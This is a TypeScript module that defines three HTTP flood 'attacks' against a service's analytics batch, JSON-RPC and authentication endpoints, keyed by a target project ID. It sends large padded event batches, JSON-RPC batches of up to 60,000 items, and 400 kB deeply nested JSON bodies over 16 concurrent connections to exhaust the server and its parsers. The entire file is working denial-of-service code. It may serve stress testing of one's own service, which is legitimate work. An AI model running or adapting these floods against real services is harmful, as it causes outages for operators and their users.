import { randomBytes, randomUUID } from 'node:crypto'
import { type Attack, type AttackOptions, repeat } from './attack.ts'
import { openFlood } from './httpFlood.ts'

const CONNECTIONS = 16

async function flood(options: AttackOptions, path: string, body: () => string): Promise<void> {
  const client = openFlood(options, CONNECTIONS)
  await repeat(options, CONNECTIONS, async () => {
    options.count(String(await client.post(path, body())))
  })
  client.close()
}

/** Batches of 60 events with 12 kB of properties each. */
export const analyticsFlood: Attack = {
  name: 'analytics',
  run: (options) => {
    const text = randomBytes(6_000).toString('hex')
    const event = () => ({
      eventId: randomUUID(),
      url: 'https://shop.example/',
      domain: 'shop.example',
      timestamp: Date.now(),
      props: { type: 'track', event: 'MODAL_OPEN', properties: { text } },
    })
    const body = () => JSON.stringify({ events: Array.from({ length: 60 }, event) })
    return flood(options, `/batch?projectId=${options.target.projectId}`, body)
  },
}

/** JSON-RPC batches of up to 60,000 items, and single calls. */
export const rpcFlood: Attack = {
  name: 'rpc',
  run: (options) => {
    const call = { jsonrpc: '2.0', id: 1, method: 'eth_blockNumber', params: [] }
    const single = JSON.stringify(call)
    const batches = [100, 60_000].map((size) => `[${Array(size).fill('0').join()}]`)
    const bodies = [single, single, single, ...batches]
    let next = 0
    const path = `/v1?chainId=eip155:1&projectId=${options.target.projectId}`
    return flood(options, path, () => bodies[next++ % bodies.length] ?? single)
  },
}

/** 400 kB of brackets. */
export const nestedJson: Attack = {
  name: 'nested JSON',
  run: (options) => {
    const project = `projectId=${options.target.projectId}`
    const paths = [
      `/batch?${project}`,
      `/v1?chainId=eip155:1&${project}`,
      `/auth/v1/authenticate?${project}`,
    ]
    const bodies = [
      '['.repeat(200_000) + ']'.repeat(200_000),
      `${'{"a":'.repeat(80_000)}1${'}'.repeat(80_000)}`,
    ]
    const client = openFlood(options, CONNECTIONS)
    return repeat(options, CONNECTIONS, async (round) => {
      const path = paths[round % paths.length] ?? ''
      options.count(String(await client.post(path, bodies[round % 2] ?? '')))
    }).finally(() => client.close())
  },
}
